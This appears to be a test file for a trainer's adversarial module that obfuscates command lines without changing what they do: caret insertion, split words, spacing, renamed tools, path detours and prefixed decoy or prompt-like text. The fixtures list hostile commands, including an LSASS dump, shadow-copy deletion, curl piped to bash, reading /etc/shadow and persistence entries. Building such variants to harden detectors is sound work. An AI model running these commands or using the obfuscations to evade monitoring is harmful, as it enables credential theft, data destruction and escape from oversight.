"""Command lines written otherwise mean the same to whoever takes them apart."""

import ntpath
import posixpath
import re
import shlex
import subprocess
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.trainer.adversarial import commands, paths
from services.trainer.adversarial.edits import FORGED, HARMLESS, PADDING, PROMPT
from services.trainer.adversarial.fields import System
from tests.interpreters import cmd_commands, windows_arguments

Written = Callable[[str, System], str]
"""A line or a path written otherwise."""
WINDOWS = (
    r'"C:\Program Files\Tools\scan.exe" -Target server01 --Output C:\Temp\found.txt "two words"',
    r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\Temp\lsass.dmp full",
    r"powershell.exe -NoProfile -EncodedCommand SQBFAFgA",
    r"schtasks /create /tn update /tr C:\Users\bob\run.exe /sc hourly",
    r"C:\Tools\copy.exe \\server\share\secret.docx D:\out\ ",
)
CMD = (
    r"cmd.exe /c whoami & netstat -ano | findstr LISTENING",
    r"C:\Windows\System32\cmd.exe /q /c vssadmin delete shadows /all",
    r'cmd /c reg add HKLM\Software\Run /v "up date" & type C:\Temp\log.txt',
)
POSIX = (
    "curl -s http://198.51.100.7/install.sh | bash -s -- --quiet",
    "sudo chmod u+s /usr/local/bin/tool && find / -perm -4000 2>/dev/null",
    "bash -c 'cat /etc/shadow; echo done' > /tmp/out",
    'tar czf "/home/bob/my files.tgz" --exclude=/home/bob/.cache /home/bob/Documents',
    "if true; then LANG=C printenv HOME; fi",
    r"grep -r pass\ word ${HOME:-/root} --include=*.conf",
)
WORDS = (HARMLESS, FORGED, PROMPT, PADDING.strip())


@pytest.mark.parametrize("edit", [commands.spaced, commands.broken_words])
@pytest.mark.parametrize("line", WINDOWS)
def test_a_windows_program_gets_the_same_arguments(line: str, edit: Written) -> None:
    """Blanks, tabs and empty quotes vanish when the line is taken apart."""
    edited = edit(line, "windows")
    assert edited != line
    assert windows_arguments(edited) == windows_arguments(line)


@pytest.mark.parametrize("line", CMD)
def test_cmd_runs_the_same_commands_without_the_carets(line: str) -> None:
    """Outside quotes each caret vanishes, and none stands within."""
    edited = commands.broken_words(line, "windows")
    assert edited.count("^") > line.count("^")
    assert cmd_commands(edited) == cmd_commands(line)


@pytest.mark.parametrize("words", WORDS)
@pytest.mark.parametrize("line", CMD)
def test_cmd_first_sets_a_variable_nobody_reads(line: str, words: str) -> None:
    """The words are a quoted value, so nothing in them is run; the other commands follow as they were."""
    edited = commands.led_by(line, "windows", words)
    option = re.match(r".*?/c ", line)
    assert option
    first, *others = cmd_commands(edited[option.end() :])
    assert first == f'set "note={words}"'
    assert others == cmd_commands(line[option.end() :])


@pytest.mark.parametrize("edit", [commands.spaced, commands.broken_words])
@pytest.mark.parametrize("line", POSIX)
def test_a_posix_shell_reads_the_same_words(line: str, edit: Written) -> None:
    """By Python's own reading of shell syntax."""
    edited = edit(line, "posix")
    assert edited != line
    assert shlex.split(edited) == shlex.split(line)


@pytest.mark.parametrize("words", WORDS)
@pytest.mark.parametrize(
    "line",
    [
        "printf '%s|' alpha 'two  words' beta",
        'LANG=C printf "%s|" $HOME "${LANG}" gamma',
        "if true; then printf '%s|' delta; else printf other; fi",
        "printf '%s' epsilon | tr a-z A-Z # terminal",
        "for each in alpha beta; do printf '%s|' $each; done",
    ],
)
def test_the_shell_itself_prints_the_same(line: str, words: str) -> None:
    """Spacing, quotes and words before the command, one upon the other, in /bin/sh."""
    edited = commands.spaced(commands.broken_words(line, "posix"), "posix")
    led = commands.led_by(edited, "posix", words)
    assert led != edited != line
    assert _printed(led) == _printed(line) != ""


def _printed(line: str) -> str:
    run = subprocess.run(
        ["/bin/sh", "-c", line], capture_output=True, text=True, check=True, env={"HOME": "/h", "PATH": "/usr/bin:/bin"}
    )
    return run.stdout


@given(st.lists(st.text(st.characters(min_codepoint=32, max_codepoint=126), max_size=12), min_size=1, max_size=5))
def test_any_posix_arguments_survive(arguments: list[str]) -> None:
    """Whatever is quoted as it must be comes out the same."""
    line = shlex.join(["command", *arguments])
    for edit in (commands.spaced, commands.broken_words):
        assert shlex.split(edit(line, "posix")) == shlex.split(line)


@given(st.lists(st.text(st.sampled_from('ab ABcd"\\/-:^%'), max_size=10), min_size=1, max_size=5))
def test_any_windows_line_survives(words: list[str]) -> None:
    """Also where its quotes are no pairs: then it is left alone."""
    line = "program.exe " + " ".join(words)
    for edit in (commands.spaced, commands.broken_words):
        assert windows_arguments(edit(line, "windows")) == windows_arguments(line)


@given(st.text(st.sampled_from("ab'\"\\ $(){}[]<>|&;#=~*?!\n\t"), max_size=24))
def test_any_text_in_a_posix_line_is_read_the_same_or_left(text: str) -> None:
    """A line that Python's reader refuses is not touched."""
    line = f"word {text} wordy"
    for edit in (commands.spaced, commands.broken_words):
        edited = edit(line, "posix")
        if edited != line:
            assert shlex.split(edited) == shlex.split(line)


@pytest.mark.parametrize(
    "line",
    [
        "echo ${HOME}name",
        "NAME=value",
        "name+=value",
        "if while until done then else",
        'cmd.exe /c echo %PATH% "quoted words" ',
        "echo $((number - other))",
        "cmd.exe /c echo %my long name%",
        "for NAME in *; do ls; done",
        "echo 'open",
    ],
)
def test_what_a_broken_word_would_change_is_left(line: str) -> None:
    """Variables, assignments, words of the grammar, arithmetic, open quotes."""
    system: System = "windows" if line.startswith("cmd") else "posix"
    for word in ("HOME", "NAME", "name+", "while", "then", "PATH", "number", "other", "quoted", "long"):
        edited = commands.broken_words(line, system)
        assert (word in edited) == (word in line)


@pytest.mark.parametrize(
    "line",
    [
        r'program.exe "first\" second" third "fourth\" fifth"',
        r'program.exe "first"" second" third',
        r'program.exe first "second third',
    ],
)
def test_a_windows_line_whose_quotes_are_no_pairs_is_left(line: str) -> None:
    """What stands within quotes cannot be told for certain, and what is changed there would be another argument."""
    assert commands.broken_words(line, "windows") == commands.spaced(line, "windows") == line


def test_nothing_is_put_before_a_quoted_command_of_cmd() -> None:
    """cmd.exe takes quotes away that stand first, and would not any more."""
    line = r'cmd.exe /c "C:\My Tools\scan.exe" --all'
    assert commands.led_by(line, "windows", HARMLESS) == line


def test_the_case_of_windows_paths_says_nothing() -> None:
    """The program's name and paths are the same once folded; arguments keep their case."""
    line = WINDOWS[0]
    edited = commands.other_case(line, "windows")
    before, after = windows_arguments(line), windows_arguments(edited)
    assert edited != line
    assert [ntpath.normcase(one) for one in after] == [ntpath.normcase(one) for one in before]
    assert after[1:4] == before[1:4]
    assert commands.other_case(POSIX[0], "posix") == POSIX[0]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (r'"C:\My Tools\mimi.exe" -x', r'"C:\My Tools\helper.exe" -x'),
        ("mimi.exe -x mimi.exe", "helper.exe -x mimi.exe"),
        ("/tmp/mimi -x", "/tmp/helper.exe -x"),
        ("cd /tmp", "cd /tmp"),
        ("LANG=C mimi", "LANG=C mimi"),
        ("$(mimi)", "$(mimi)"),
    ],
)
def test_a_renamed_program_keeps_folder_and_arguments(line: str, expected: str) -> None:
    """What is no program, a shell's own command or an assignment, is left."""
    assert commands.renamed(line, "helper.exe") == expected


@pytest.mark.parametrize("edit", [paths.detoured, paths.lengthened])
def test_windows_paths_lead_to_the_same_place(edit: Written) -> None:
    """By Windows' rules as Python has them; the other arguments stay."""
    for line in WINDOWS[:2]:
        edited = edit(line, "windows")
        assert edited != line
        before, after = windows_arguments(line), windows_arguments(edited)
        assert [_windows_place(one) for one in after] == [_windows_place(one) for one in before]
    path = r"C:\Users\bob\run.exe"
    assert ntpath.normpath(paths.mixed_slashes(edit(path, "windows"))) == path


def _windows_place(argument: str) -> str:
    return ntpath.normpath(argument) if re.match(r"[A-Za-z]:\\", argument) else argument


@pytest.mark.parametrize("edit", [paths.detoured, paths.lengthened])
@pytest.mark.parametrize("line", [line for line in POSIX if re.search(r"/(?:usr|etc|home)/\w", line)])
def test_posix_paths_lead_to_the_same_place(line: str, edit: Written) -> None:
    """No `..`, which a link could lead elsewhere; addresses with a scheme and sed's slashes are no paths."""
    edited = edit(line, "posix")
    assert edited != line
    assert ".." not in edited
    assert [_posix_place(one) for one in shlex.split(edited)] == [_posix_place(one) for one in shlex.split(line)]
    for other in ("curl http://host/usr/bin", "sed s/usr/bin/", "ls ~/usr/bin", "a/usr/bin"):
        assert edit(other, "posix") == other


def _posix_place(argument: str) -> str:
    return re.sub(r"/[^=\s;]*", lambda path: posixpath.normpath(path[0]), argument)
